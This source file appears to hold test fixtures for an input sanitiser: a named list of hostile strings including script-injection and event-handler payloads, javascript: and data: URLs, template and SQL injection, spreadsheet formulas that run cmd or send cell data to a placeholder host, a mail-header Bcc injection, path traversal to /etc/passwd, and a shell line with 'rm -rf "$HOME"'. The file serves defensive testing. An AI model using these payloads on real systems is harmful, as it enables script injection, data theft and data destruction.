// Data that tries to be program: what somebody may type, paste, import or answer with, so that it might run, fetch, draw or
// mislead. Each is named after its trick. Whatever runs calls `canary`, which counts.

/** What a script that runs would do: the page's global, and an address that nothing answers. */
export const CANARY = "__ran";
const RUN = `(globalThis.${CANARY}=(globalThis.${CANARY}||0)+1)`;
const AWAY = "http://canary.invalid";

/** Name of the trick → the text. */
export const STRINGS = {
  // Elements that run or load.
  script: `<script>${RUN}</script>`,
  "script in capitals": `<SCRIPT>${RUN}</SCRIPT>`,
  "script from elsewhere": `<script src="${AWAY}/a.js"></script>`,
  "script as a module": `<script type="module">${RUN}</script>`,
  "script cut in two": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  "script out of an attribute": `"><script>${RUN}</script>`,
  "script out of an apostrophe": `'><script>${RUN}</script>`,
  "script out of a title": `</title><script>${RUN}</script>`,
  "script out of a text area": `</textarea><script>${RUN}</script>`,
  "script out of a style": `</style><script>${RUN}</script>`,
  "script out of JSON": `</script><script>${RUN}</script>`,
  "script in a comment": `<!--><script>${RUN}</script>-->`,
  "script in CDATA": `<![CDATA[<script>${RUN}</script>]]>`,
  "picture that fails": `<img src=x onerror="${RUN}">`,
  "picture without quotes": `<img src=x onerror=${RUN}>`,
  "picture with a slash": `<img/src="x"/onerror=${RUN}>`,
  "picture in a paragraph": `<p title="</p><img src=x onerror=${RUN}>">`,
  "frame with a document": `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  "frame from elsewhere": `<iframe src="${AWAY}/"></iframe>`,
  object: `<object data="data:text/html,<script>parent.${CANARY}=1</script>"></object>`,
  embed: `<embed src="${AWAY}/a.swf">`,
  base: `<base href="${AWAY}/">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  form: `<form action="${AWAY}/"><button autofocus onfocus="${RUN}">提交</button></form>`,
  "body that loads": `<body onload="${RUN}">`,
  "box in focus": `<input autofocus onfocus="${RUN}">`,
  details: `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  marquee: `<marquee onstart="${RUN}">出货</marquee>`,
  video: `<video><source onerror="${RUN}"></video>`,
  audio: `<audio src=x onerror="${RUN}">`,
  dialog: `<dialog open onclose="${RUN}">已批准</dialog>`,
  template: `<template><script>${RUN}</script></template>`,
  "custom element": `<x-order onclick="${RUN}" tabindex=0 onfocus="${RUN}" autofocus>订单</x-order>`,
  // SVG and MathML.
  "drawing that loads": `<svg onload="${RUN}"></svg>`,
  "drawing with a script": `<svg><script>${RUN}</script></svg>`,
  "drawing that animates": `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  "drawing with a foreign object": `<svg><foreignObject><iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe></foreignObject></svg>`,
  "drawing with a link": `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>打开</text></a></svg>`,
  formula: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  // Addresses.
  "javascript address": `javascript:${RUN}`,
  "javascript address, disguised": `java\tscript:${RUN}`,
  "javascript address in a link": `<a href="javascript:${RUN}">点此确认</a>`,
  "data address": `data:text/html,<script>${RUN}</script>`,
  "vbscript address": `vbscript:msgbox(1)`,
  "link in Markdown": `[点此确认](javascript:${RUN})`,
  "picture in Markdown": `![](${AWAY}/a.png)`,
  // Styles.
  style: `<style>@import url("${AWAY}/a.css");body{display:none}</style>`,
  "style sheet": `<link rel="stylesheet" href="${AWAY}/a.css">`,
  "style as an attribute": `<b style="position:fixed;inset:0;background:url(${AWAY}/a.png)">盖住</b>`,
  "style out of a rule": `red;}body{background:url(${AWAY}/a.png)}`,
  expression: `width:expression(${RUN})`,
  // Languages of templates, sheets, mails and shells.
  "template, braces": `{{constructor.constructor('${RUN}')()}}`,
  "template, dollar": "${" + RUN + "}",
  "template, percent": `<%= ${RUN} %>`,
  "template, hash": `#{${RUN}}`,
  "typst code": `#eval("1+1") #read("/etc/passwd") $x$ *_粗_* @标签 \\`,
  "prototype": `__proto__`,
  "sheet formula": `=HYPERLINK("${AWAY}/?"&A1,"对账单")`,
  "sheet formula, plus": `+cmd|'/c calc'!A0`,
  "sheet formula, minus": `-2+3+cmd|'/c calc'!A0`,
  "sheet formula, at": `@SUM(1+1)*cmd|'/c calc'!A0`,
  "mail header": `张三\r\nBcc: thief@canary.invalid\r\n\r\n<script>${RUN}</script>`,
  shell: "$(touch canary); `id`; rm -rf \"$HOME\" & | > x",
  sql: `'); drop table sales_order; --`,
  path: `../../../../etc/passwd`,
  "file name of Windows": `CON.pdf:<|>?*"`,
  // Letters that mislead or are none.
  "right to left": `发票\u202Egnp.exe\u202C 已付`,
  isolates: `\u2066\u2067甲方\u2069 <b>乙方</b>\u2069`,
  "combining marks": `Z\u0351\u0343\u036Ba\u0329\u0321l\u0334\u0321g\u0337o\u0317\u0323 岭\u0301桥`,
  "zero width": `岭\u200B桥\u200D智\uFEFF能`,
  "astral letters": `𠮷野家 👩‍👩‍👧‍👦 🏳️‍🌈`,
  controls: `a\u0001b\u0007c\u001Bd\u007Fe`,
  "line breaks": `第一行\n第二行\r第三行\u2028第四行\u2029第五行`,
  entities: `&lt;img src=x onerror=${RUN}&gt; &amp;amp; &#x3c;script&#x3e;`,
  "very long": `长${"很".repeat(180)}长<b>`,
  "one long word": `<b>${"W".repeat(180)}</b>`,
};

/** What is no text at all for some part of the way: a nought byte, and halves of a letter. */
export const BROKEN = { nought: `a\u0000b<script>${RUN}</script>`, "first half": `甲\uD83D乙<img src=x onerror=${RUN}>`, "second half": `甲\uDE00乙` };
